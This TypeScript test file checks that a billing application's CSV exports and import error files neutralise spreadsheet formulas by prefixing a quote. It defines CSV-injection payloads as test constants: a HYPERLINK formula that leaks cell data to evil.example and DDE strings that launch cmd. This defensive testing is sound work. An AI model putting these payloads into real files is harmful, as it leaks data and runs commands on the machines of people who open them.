// CSV injection: names, places and call fields that would run as spreadsheet formulas come out of
// every export with a quote in front; amounts, durations and counts stay numbers.
import { parse } from 'csv-parse/sync';
import type { Express } from 'express';
import request from 'supertest';
import { beforeAll, describe, expect, it } from 'vitest';
import type { AccountRow } from '../../src/db/repos/accounts.ts';
import { createTestApp } from '../helpers/app.ts';
import { useTestDatabase } from '../helpers/database.ts';
import { makeAccount, makeOwnedDid, makeProvider, makeSwitch } from '../helpers/factories.ts';
import { csrfToken, loginAs } from '../helpers/login.ts';

const EVIL_PROVIDER = '=HYPERLINK("http://evil.example/?leak="&A1,"Carrier")';
const EVIL_CITY = '+cmd|\' /C calc\'!A0';
const EVIL_PROVINCE = '-2+3';
const EVIL_RESELLER = '@SUM(1+1) Reseller';
const EVIL_CUSTOMER = '=1+1 Customer';
const EVIL_CALLER = '=cmd|\' /C notepad\'!A0';
const EVIL_CAUSE = '@NORMAL_CLEARING';

const database = useTestDatabase();
let app: Express;
let admin: AccountRow;
let reseller: AccountRow;
let customer: AccountRow;
let number: string;

type Rows = Array<Record<string, string>>;
async function csvOf(email: string, path: string): Promise<Rows> {
  const agent = await loginAs(app, email);
  const response = await agent.get(path);
  expect(response.status).toBe(200);
  expect(response.headers['content-type']).toContain('text/csv');
  return parse(response.text, { columns: true }) as Rows;
}

beforeAll(async () => {
  const db = database.current.db;
  app = createTestApp(db);
  admin = await makeAccount(db, { role: 'admin' });
  reseller = await makeAccount(db, { role: 'reseller', parent: admin, balance: '100', name: EVIL_RESELLER });
  customer = await makeAccount(db, { role: 'customer', parent: reseller, balance: '100', name: EVIL_CUSTOMER });
  const provider = await makeProvider(db, EVIL_PROVIDER);
  number = (await makeOwnedDid(db, { owner: customer, reseller, provider_id: provider.id, city: EVIL_CITY, province: EVIL_PROVINCE })).number;
  const token = (await makeSwitch(db, { admin })).token;
  const response = await request(app).post('/api/v1/cdrs').set('Authorization', `Bearer ${token}`).send([
    { uuid: 'csv-1', destination: number, caller: EVIL_CALLER, started_at: '2026-11-20T10:00:00Z', answered_at: '2026-11-20T10:00:04Z', ended_at: '2026-11-20T10:02:09Z', billsec: 125, hangup_cause: EVIL_CAUSE },
  ]);
  expect(response.status).toBe(200);
});

describe('CSV exports', () => {
  it('when the admin exports calls, then caller, owner, reseller and hangup cause are neutralised and amounts stay numbers', async () => {
    const [row] = await csvOf(admin.email, '/admin/calls/export.csv');
    expect(row).toMatchObject({
      caller: `'${EVIL_CALLER}`, number, owner: `'${EVIL_CUSTOMER}`, reseller: `'${EVIL_RESELLER}`, hangup_cause: `'${EVIL_CAUSE}`,
      billsec: '125', owner_paid: '3.8000', reseller_paid: '1.3000',
    });
  });

  it('when a reseller exports calls, then the caller is neutralised and its margin stays a number', async () => {
    const [row] = await csvOf(reseller.email, '/reseller/calls/export.csv');
    expect(row).toMatchObject({ caller: `'${EVIL_CALLER}`, hangup_cause: `'${EVIL_CAUSE}`, cost: '1.3000', customer_price: '3.8000', margin: '2.5000' });
  });

  it('when the admin exports DIDs, then provider, city, province and holder name are neutralised, the number and fees are not', async () => {
    const rows = await csvOf(admin.email, '/admin/dids/export.csv');
    expect(rows.find((row) => row.number === number)).toMatchObject({
      provider: `'${EVIL_PROVIDER}`, city: `'${EVIL_CITY}`, province: `'${EVIL_PROVINCE}`, holder_name: `'${EVIL_CUSTOMER}`, monthly_fee: '2.000000',
    });
  });

  it('when the admin exports accounts, then names are neutralised and balances stay numbers', async () => {
    const rows = await csvOf(admin.email, '/admin/accounts/export.csv');
    expect(rows.find((row) => row.id === String(customer.id))).toMatchObject({ name: `'${EVIL_CUSTOMER}`, parent_name: `'${EVIL_RESELLER}`, balance: '96.2000' });
  });

  it('when a customer exports its transactions, then a charge keeps its minus sign as a number', async () => {
    const rows = await csvOf(customer.email, '/customer/transactions/export.csv');
    expect(rows.find((row) => row.kind === 'call_charge')).toMatchObject({ amount: '-3.8000' });
  });

  it('when an import has an invalid row holding a formula, then the rows-to-fix file neutralises it', async () => {
    const agent = await loginAs(app, admin.email);
    const token = await csrfToken(agent, '/admin/dids/import');
    const upload = await agent.post('/admin/dids/import?filename=evil.csv').set('X-CSRF-Token', token).set('Accept', 'application/json').type('text/csv')
      .send('number\n"=HYPERLINK(""http://evil.example"")"\n');
    expect(upload.status).toBe(201);
    const response = await agent.get(`${upload.body.location}/errors.csv`);
    const [row] = parse(response.text, { columns: true }) as Rows;
    expect(row!.number).toBe(`'=HYPERLINK("http://evil.example")`);
    expect(row!.line).toBe('2');
  });

  it('when a DID export is imported again, then the quote it added is taken off and the provider is found', async () => {
    const rows = await csvOf(admin.email, '/admin/dids/export.csv');
    const exported = rows.find((row) => row.number === number)!;
    const agent = await loginAs(app, admin.email);
    const token = await csrfToken(agent, '/admin/dids/import');
    const csv = `number,provider,city\n+14155550177,"${exported.provider!.replaceAll('"', '""')}",${exported.city}\n`;
    const upload = await agent.post('/admin/dids/import?filename=again.csv').set('X-CSRF-Token', token).set('Accept', 'application/json').type('text/csv').send(csv);
    const preview = await agent.get(upload.body.location);
    expect(preview.text).toMatch(/data-stat="valid">1</);
    expect(preview.text).toMatch(/data-stat="invalid">0</);
  });
});
